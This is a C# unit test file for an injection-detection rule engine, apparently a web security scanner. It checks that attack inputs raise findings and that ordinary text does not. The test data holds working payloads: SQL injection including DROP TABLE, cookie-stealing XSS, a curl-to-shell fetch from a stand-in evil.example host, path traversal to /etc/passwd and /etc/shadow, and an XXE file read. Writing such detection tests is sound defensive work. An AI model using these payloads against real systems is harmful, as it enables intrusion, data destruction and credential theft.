using Vigil.Core.Capture;
using Vigil.Core.Findings;
using Vigil.Detection.Rules.Injection;
using Vigil.Detection.Tests.Support;

namespace Vigil.Detection.Tests.Rules;

/// <summary>Injection rules over every kind of input: query, path, header, cookie, form and JSON, raw and encoded.</summary>
internal static class Inject
{
    public static IReadOnlyList<Finding> InQuery<TRule>(string value)
        where TRule : InjectionRule, new() => Http.Run<TRule>(Http.Get("https://api.example.com/search?q=" + Uri.EscapeDataString(value)));

    public static IReadOnlyList<Finding> InJson<TRule>(string value)
        where TRule : InjectionRule, new() =>
        Http.Run<TRule>(Http.Post("https://api.example.com/orders", "{\"order\":{\"note\":" + System.Text.Json.JsonSerializer.Serialize(value) + "}}"));
}

public sealed class SqlInjectionRuleTests
{
    [Theory]
    [InlineData("' OR '1'='1")]
    [InlineData("1 UNION SELECT username, password FROM users--")]
    [InlineData("x'; DROP TABLE orders; --")]
    [InlineData("1 AND SLEEP(5)")]
    public void Detect_sql_in_query_and_json(string payload)
    {
        Assert.Equal("query.q", Assert.Single(Inject.InQuery<SqlInjectionRule>(payload)).Location);
        Assert.Equal("body/order/note", Assert.Single(Inject.InJson<SqlInjectionRule>(payload)).Location);
    }

    [Fact]
    public void Detect_sql_hidden_behind_double_url_encoding_in_a_cookie()
    {
        var e = Http.Get("https://api.example.com/").WithRequestHeader("Cookie", "pref=" + Uri.EscapeDataString(Uri.EscapeDataString("' OR 1=1--")));

        var finding = Assert.Single(Http.Run<SqlInjectionRule>(e));
        Assert.Equal("cookie.pref", finding.Location);
        Assert.Contains("after decoding", finding.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("O'Brien")]
    [InlineData("union was a great select")]
    [InlineData("drop me a line; update your address")]
    [InlineData("john+or@var.es")]
    public void Safe_ordinary_text(string value) => Assert.Empty(Inject.InQuery<SqlInjectionRule>(value));
}

public sealed class CrossSiteScriptingRuleTests
{
    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(document.cookie)>")]
    [InlineData("<svg/onload=fetch('//evil.example')>")]
    public void Detect_markup_that_runs_script(string payload) => Assert.Single(Inject.InJson<CrossSiteScriptingRule>(payload));

    [Theory]
    [InlineData("x < y and y > z")]
    [InlineData("I <3 this place")]
    [InlineData("use the <b> tag for bold")]
    public void Safe_text_with_angle_brackets(string value) => Assert.Empty(Inject.InJson<CrossSiteScriptingRule>(value));
}

public sealed class CommandInjectionRuleTests
{
    [Theory]
    [InlineData("8.8.8.8; cat /etc/passwd")]
    [InlineData("$(curl http://evil.example/x.sh | sh)")]
    public void Detect_shell_breakouts(string payload) => Assert.Single(Inject.InQuery<CommandInjectionRule>(payload));

    [Theory]
    [InlineData("Tom & Jerry; the movie")]
    [InlineData("price $5 | shipping free")]
    public void Safe_punctuation_in_text(string value) => Assert.Empty(Inject.InQuery<CommandInjectionRule>(value));
}

public sealed class PathTraversalRuleTests
{
    [Theory]
    [InlineData("../../../../etc/passwd")]
    [InlineData("..%2f..%2f..%2fetc%2fshadow")]
    [InlineData("..\\..\\windows\\win.ini")]
    public void Detect_traversal(string payload) => Assert.Single(Inject.InQuery<PathTraversalRule>(payload));

    [Theory]
    [InlineData("reports/2026/q3.pdf")]
    [InlineData("Wait... what?")]
    public void Safe_relative_names_and_ellipses(string value) => Assert.Empty(Inject.InQuery<PathTraversalRule>(value));
}

public sealed class NoSqlInjectionRuleTests
{
    [Fact]
    public void Detect_operator_keys_in_a_json_body()
    {
        var e = Http.Post("https://api.example.com/login", """{"user":"admin","password":{"$ne":null}}""");

        Assert.Equal("body/password/$ne", Assert.Single(Http.Run<NoSqlInjectionRule>(e)).Location);
    }

    [Fact]
    public void Detect_operators_in_a_query_value() => Assert.NotEmpty(Http.Run<NoSqlInjectionRule>(Http.Get("https://api.example.com/login?user[$ne]=x&q=" + Uri.EscapeDataString("{\"$where\": \"sleep(1000)\"}"))));

    [Fact]
    public void Safe_prices_and_ordinary_keys() =>
        Assert.Empty(Http.Run<NoSqlInjectionRule>(Http.Post("https://api.example.com/orders", """{"total":"$15.00","currency":"USD"}""")));
}

public sealed class LdapInjectionRuleTests
{
    [Fact]
    public void Detect_filter_breakout() => Assert.Single(Inject.InQuery<LdapInjectionRule>("*)(uid=*))(|(uid=*"));

    [Fact]
    public void Safe_parenthesised_text() => Assert.Empty(Inject.InQuery<LdapInjectionRule>("Asha (manager) and team"));
}

public sealed class XmlExternalEntityRuleTests
{
    [Fact]
    public void Detect_an_external_entity_in_an_xml_body()
    {
        var e = Http.Post("https://api.example.com/import", """<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>""", "application/xml");

        Assert.Single(Http.Run<XmlExternalEntityRule>(e));
    }

    [Fact]
    public void Safe_plain_xml() =>
        Assert.Empty(Http.Run<XmlExternalEntityRule>(Http.Post("https://api.example.com/import", """<?xml version="1.0"?><order><id>7</id></order>""", "application/xml")));
}

public sealed class HeaderInjectionRuleTests
{
    [Fact]
    public void Detect_crlf_followed_by_a_header() => Assert.Single(Inject.InQuery<HeaderInjectionRule>("/home\r\nSet-Cookie: admin=true"));

    [Fact]
    public void Safe_multi_line_text() => Assert.Empty(Inject.InJson<HeaderInjectionRule>("Line one\nline two of my review"));
}

public sealed class TemplateInjectionRuleTests
{
    [Theory]
    [InlineData("{{7*7}}")]
    [InlineData("${7*7}")]
    public void Detect_template_expressions(string payload) => Assert.Single(Inject.InQuery<TemplateInjectionRule>(payload));

    [Fact]
    public void Safe_braces_in_text() => Assert.Empty(Inject.InQuery<TemplateInjectionRule>("Use {name} as a placeholder"));
}

public sealed class InjectionScanTests
{
    [Fact]
    public void Clean_traffic_raises_no_injection_finding_on_any_rule()
    {
        var e = Http.Post("https://api.example.com/orders", """{"customer":{"name":"Siobhán O'Brien","email":"siobhan+orders@example.ie"},"note":"Leave at the door; ring twice. 2 < 3 kids","items":[{"sku":"A-1","qty":2}]}""");
        e.Request.Headers["Referer"] = ["https://shop.example.com/cart?step=2&coupon=SAVE10"];

        var result = new Vigil.Detection.Engine.RuleEngine(Vigil.Detection.Engine.RuleCatalog.Default).Evaluate(e, "POST /orders");

        Assert.DoesNotContain(result.Findings, f => f.RuleId.StartsWith("VG100", StringComparison.Ordinal) || f.RuleId == "VG1010");
    }
}
